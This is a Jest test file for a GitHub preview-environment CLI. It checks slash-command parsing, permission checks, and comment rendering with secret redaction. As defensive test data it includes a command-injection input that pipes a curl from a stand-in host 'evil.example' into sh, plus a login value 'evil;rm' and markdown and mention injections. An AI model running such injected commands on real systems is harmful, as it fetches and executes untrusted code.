import { mkdtempSync, rmSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import * as path from "path";
import type { EnvironmentRecord, OperationResult } from "../../../stacks/automation/types";
import { COMMENT_BODY_ENV, CommandAnswer, githubCommands } from "../../../stacks/cli/github-commands";
import { PREVIEW_COMMENT_MARKER, previewComment, quoted } from "../../../stacks/cli/github";
import { EXIT } from "../../../stacks/command";
import { main } from "../../../stacks/main";

/*
 * The GitHub adapter of the preview workflow: `github command` (parse, authorize, run through the
 * library, answer) and `github comment`, with a fake automation layer. No GitHub here: the
 * workflow's own API calls (reactions, comments, the permission lookup) are not run by any test.
 */

const durations = { totalMs: 1, waitMs: 0, runMs: 1 };
const ok = (action: "up" | "destroy", pr = 7): OperationResult => ({ action, stack: `pr-${pr}`, kind: "preview", pr, status: "succeeded", url: action === "up" ? `https://pr-${pr}.preview.example` : undefined, durations });
const record: EnvironmentRecord = { stack: "pr-7", kind: "preview", pr: 7, branch: "feat/x", sha: "abcdef1234567", image: "ghcr.io/o/r:abcdef1", owner: "alice", expiresAt: "2026-12-05T00:00:00.000Z", url: "https://pr-7.preview.example" };

let calls: [string, unknown[]][] = [];
let previews: EnvironmentRecord[] = [];
let next: OperationResult | undefined;
const fake = {
    listPreviews: async () => (calls.push(["listPreviews", []]), previews),
    upPreview: async (...args: unknown[]) => (calls.push(["upPreview", args]), next ?? ok("up")),
    destroyPreview: async (...args: unknown[]) => (calls.push(["destroyPreview", args]), next ?? ok("destroy")),
    sleepPreview: async (...args: unknown[]) => (calls.push(["sleepPreview", args]), next ?? ok("up")),
    wakePreview: async (...args: unknown[]) => (calls.push(["wakePreview", args]), next ?? ok("up")),
};
/** Variables of the runner besides the comment (the wake key and the API's URL). */
let runnerEnv: NodeJS.ProcessEnv = {};

async function run(body: string | undefined, ...argv: string[]): Promise<{ code: number; answer: CommandAnswer; stderr: string }> {
    let stdout = "";
    let stderr = "";
    calls = [];
    const env: NodeJS.ProcessEnv = body === undefined ? { ...runnerEnv } : { ...runnerEnv, [COMMENT_BODY_ENV]: body };
    const table = githubCommands({ automation: async () => fake as never, resources: async () => { throw new Error("no resource mode"); }, env });
    const code = await main(["github", "command", "--pr", "7", "--commenter", "bob", "--author", "alice", "--json", ...argv], { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t) }, undefined, table);
    return { code, answer: stdout === "" ? (undefined as never) : JSON.parse(stdout), stderr };
}

beforeEach(() => {
    previews = [record];
    next = undefined;
    runnerEnv = {};
});

describe("catalyst github command", () => {
    it("does nothing for a comment without a command: no backend read, no reaction, no comment edit", async () => {
        const { code, answer } = await run("Nice work! Maybe /catalyst redeploy later.");
        expect(code).toBe(EXIT.ok);
        expect(answer).toEqual({ command: null, accepted: false, reaction: null, answer: null, marker: PREVIEW_COMMENT_MARKER, body: null });
        expect(calls).toEqual([]);
    });

    it("extends an existing preview for its author: same branch, commit, image and owner, new ttl", async () => {
        const { code, answer } = await run("/catalyst extend 48h", "--commenter", "alice");
        expect(code).toBe(EXIT.ok);
        expect(calls[1]).toEqual(["upPreview", [{ pr: 7, branch: "feat/x", sha: "abcdef1234567", image: "ghcr.io/o/r:abcdef1", owners: ["alice"], ttl: 48 * 3_600_000, refresh: undefined }, expect.anything()]]);
        expect(answer).toMatchObject({ command: "extend", accepted: true, reaction: "+1", answer: "`/catalyst extend 2d` from `alice`: done: the preview now expires 2d from now" });
        expect(answer.body).toContain("### Preview environment: ready");
        expect(answer.body).toContain("**Last command:** `/catalyst extend 2d` from `alice`: done");
    });

    it("redeploys for a user with write access: the preview's last up again, with a refresh", async () => {
        const { code, answer } = await run("/catalyst redeploy", "--permission", "write");
        expect(code).toBe(EXIT.ok);
        expect(calls[1]).toEqual(["upPreview", [expect.objectContaining({ branch: "feat/x", sha: "abcdef1234567", refresh: true, ttl: undefined }), expect.anything()]]);
        expect(answer.reaction).toBe("+1");
    });

    it("redeploys a PR without a preview from --head-ref, --head-sha and --image, owned by the author (bot suffix dropped)", async () => {
        previews = [];
        await run("/catalyst redeploy", "--commenter", "dependabot[bot]", "--author", "dependabot[bot]", "--head-ref", "deps/x", "--head-sha", "1234567", "--image", "ghcr.io/o/r:1234567");
        expect(calls[1]).toEqual(["upPreview", [expect.objectContaining({ branch: "deps/x", sha: "1234567", image: "ghcr.io/o/r:1234567", owners: ["dependabot"] }), expect.anything()]]);
    });

    it("refuses extend and a redeploy without --head-ref when no preview exists, changing nothing", async () => {
        previews = [];
        const extend = await run("/catalyst extend 1d", "--commenter", "alice");
        expect([extend.code, extend.answer.reaction, extend.answer.answer]).toEqual([EXIT.usage, "confused", "`/catalyst extend 1d` from `alice`: there is no preview to extend; push a commit or comment /catalyst redeploy first"]);
        expect(extend.answer.body).toContain("### Preview environment: none");
        const redeploy = await run("/catalyst redeploy", "--commenter", "alice");
        expect(redeploy.code).toBe(EXIT.usage);
        expect(calls.map((c) => c[0])).toEqual(["listPreviews"]);
    });

    it("destroys, and the comment says so", async () => {
        const { code, answer } = await run("/catalyst destroy", "--permission", "admin");
        expect(code).toBe(EXIT.ok);
        expect(calls[1]).toEqual(["destroyPreview", [7, expect.anything()]]);
        expect(answer.body).toContain("### Preview environment: destroyed");
    });

    it("refuses the wrong user with -1 and runs nothing", async () => {
        for (const permission of ["read", "triage", "none", "unknown"]) {
            const { code, answer } = await run("/catalyst destroy", "--commenter", "mallory", "--permission", permission);
            expect([code, answer.accepted, answer.reaction]).toEqual([EXIT.usage, false, "-1"]);
            expect(answer.answer).toBe("`/catalyst destroy` from `mallory` refused: only the pull request's author and users with write access may run /catalyst commands");
            expect(calls.map((c) => c[0])).toEqual(["listPreviews"]);
        }
    });

    it.each([["sleep", "sleepPreview", "done: the preview is asleep (volumes, database and URL kept); wake it with /catalyst wake"], ["wake", "wakePreview", "done: the preview is awake"]])(
        "runs /catalyst %s through the library for the author and answers it", async (verb, op, detail) => {
            const { code, answer } = await run(`/catalyst ${verb}`, "--commenter", "alice");
            expect(code).toBe(EXIT.ok);
            expect(calls.map((c) => c[0])).toEqual(["listPreviews", op]);
            expect(calls[1][1][0]).toBe(7);
            expect(answer).toMatchObject({ command: verb, accepted: true, reaction: "+1", answer: `\`/catalyst ${verb}\` from \`alice\`: ${detail}` });
        });

    it("answers a sleep with a signed wake link when the runner holds the key and the API's URL", async () => {
        runnerEnv = { CATALYST_WAKE_KEY: "k".repeat(32), CATALYST_API_URL: "https://catalyst.example.com" };
        const { answer } = await run("/catalyst sleep", "--commenter", "alice");
        expect(answer.answer).toMatch(/^`\/catalyst sleep` from `alice`: done: the preview is asleep \(volumes, database and URL kept\); wake it with \/catalyst wake or \[this link\]\(https:\/\/catalyst\.example\.com\/sleeping\/wake\?token=pr-7\.[0-9]+\.[A-Za-z0-9_-]{43}\) \(valid 7d\)$/);
    });

    it.each(["sleep", "wake"])("refuses /catalyst %s without a preview and runs nothing", async (verb) => {
        previews = [];
        const { code, answer } = await run(`/catalyst ${verb}`, "--commenter", "alice");
        expect([code, answer.reaction, answer.accepted]).toEqual([EXIT.usage, "confused", false]);
        expect(answer.answer).toBe(`\`/catalyst ${verb}\` from \`alice\`: there is no preview to ${verb === "sleep" ? "put to sleep" : "wake"}`);
        expect(calls.map((c) => c[0])).toEqual(["listPreviews"]);
    });

    it("answers an unknown or hostile command with confused, never echoing it into the comment", async () => {
        for (const body of ["/catalyst deploy-everything", "/catalyst $(curl evil.example|sh)", "/catalyst [x](https://evil.example) @everyone", `/catalyst ${"A".repeat(10_240)}`]) {
            const { code, answer } = await run(body, "--commenter", "alice");
            expect([code, answer.reaction]).toEqual([EXIT.usage, "confused"]);
            expect(answer.body).not.toMatch(/curl|evil|@everyone|AAAA/);
            expect(calls.map((c) => c[0])).toEqual(["listPreviews"]);
        }
    });

    it("reports a failed operation with -1 and exit 1, the reason and the failing resource in the comment", async () => {
        next = { ...ok("up"), status: "failed", error: "timed out waiting for Deployment app", failedResource: { urn: "u", type: "kubernetes:apps/v1:Deployment", name: "app" } };
        const { code, answer } = await run("/catalyst redeploy", "--commenter", "alice");
        expect([code, answer.reaction]).toEqual([EXIT.failed, "-1"]);
        expect(answer.body).toContain("**Error:** `timed out waiting for Deployment app`");
        expect(answer.body).toContain("**Failing resource:** `kubernetes:apps/v1:Deployment` `app`");
    });

    it("refuses bad flags by name and a missing body", async () => {
        const missing = await run(undefined);
        expect([missing.code, missing.stderr.trim()]).toEqual([EXIT.usage, `catalyst github command: ${COMMENT_BODY_ENV} is not set; it holds the comment's body`]);
        const badLogin = await run("/catalyst redeploy", "--commenter", "evil;rm");
        expect(badLogin.stderr.trim()).toBe('catalyst github command: --commenter: must be a GitHub login (letters, digits and hyphens, at most 39, optionally ending in [bot]), got "evil;rm"');
        const badPermission = await run("/catalyst redeploy", "--permission", "god");
        expect(badPermission.stderr.trim()).toBe('catalyst github command: --permission: must be one of admin, maintain, write, triage, read, none, unknown, got "god"');
    });
});

describe("the preview comment", () => {
    const env = { GITHUB_SERVER_URL: "https://github.com", GITHUB_REPOSITORY: "o/r", GITHUB_RUN_ID: "42", PULUMI_CONFIG_PASSPHRASE: "hunter2-passphrase" };

    it("shows the URL of a ready preview and the run log", () => {
        expect(previewComment({ pr: 7, result: { ...ok("up"), namespace: "env-pr-7" }, sha: "abcdef1234567" }, env)).toBe([
            PREVIEW_COMMENT_MARKER, "### Preview environment: ready", "", "**URL:** https://pr-7.preview.example",
            "**Stack:** `pr-7` · **Namespace:** `env-pr-7` · **Commit:** abcdef1", "", "[Workflow run log](https://github.com/o/r/actions/runs/42)",
        ].join("\n"));
    });

    it("shows a failure's one-line reason and failing resource as inline code, secrets redacted, markdown and mentions inert", () => {
        const body = previewComment({ pr: 7, result: {
            ...ok("up"), status: "failed", url: undefined,
            error: "Secret db: password=s3cr3t-value and hunter2-passphrase rejected `@team` [x](https://evil.example)\nsecond line",
            failedResource: { urn: "u", type: "kubernetes:core/v1:Secret", name: "db`<b>" },
        } }, env);
        expect(body).toContain("### Preview environment: failed");
        expect(body).not.toMatch(/s3cr3t|hunter2|\*\*URL/);
        expect(body).toContain("**Error:** `Secret db: password=[redacted] and [redacted] rejected '@team' [x](https://evil.example)`");
        expect(body).toContain("**Failing resource:** `kubernetes:core/v1:Secret` `db'<b>`");
        expect(body).toContain("[Workflow run log](https://github.com/o/r/actions/runs/42)");
    });

    it("shows an existing preview's expiry when no operation ran, and no log link outside Actions", () => {
        const body = previewComment({ pr: 7, record, answer: "x" }, {});
        expect(body).toContain("**Expires:** 2026-12-05T00:00:00.000Z");
        expect(body).not.toContain("Workflow run log");
        expect(quoted("a".repeat(500), {}).length).toBe(302);
    });

    it("github comment renders a result file, and says so when the file holds no result", async () => {
        const dir = mkdtempSync(path.join(tmpdir(), "catalyst-comment-"));
        try {
            const file = path.join(dir, "preview.json");
            writeFileSync(file, JSON.stringify(ok("up")));
            const out = async (...argv: string[]) => {
                let stdout = "";
                const table = githubCommands({ automation: async () => fake as never, resources: async () => fake as never, env: {} });
                const code = await main(["github", "comment", "--pr", "7", ...argv], { stdout: (t) => (stdout += t), stderr: () => undefined }, undefined, table);
                return { code, stdout };
            };
            const json = await out("--result", file, "--json");
            expect(json.code).toBe(EXIT.ok);
            expect(JSON.parse(json.stdout)).toEqual({ marker: PREVIEW_COMMENT_MARKER, body: expect.stringContaining("**URL:** https://pr-7.preview.example") });
            writeFileSync(file, "npm ERR! something broke\n");
            expect((await out("--result", file)).stdout).toContain("**Error:** `catalyst printed no result`");
            expect((await out("--result", path.join(dir, "missing.json"))).stdout).toContain("### Preview environment: failed");
            // A closed pull request that never had a preview gets no comment about one.
            writeFileSync(file, JSON.stringify({ ...ok("destroy"), noop: true }));
            expect(JSON.parse((await out("--result", file, "--json")).stdout)).toEqual({ marker: PREVIEW_COMMENT_MARKER, body: null });
            writeFileSync(file, JSON.stringify(ok("destroy")));
            expect(JSON.parse((await out("--result", file, "--json")).stdout).body).toContain("### Preview environment: destroyed");
        } finally {
            rmSync(dir, { recursive: true, force: true });
        }
    });
});
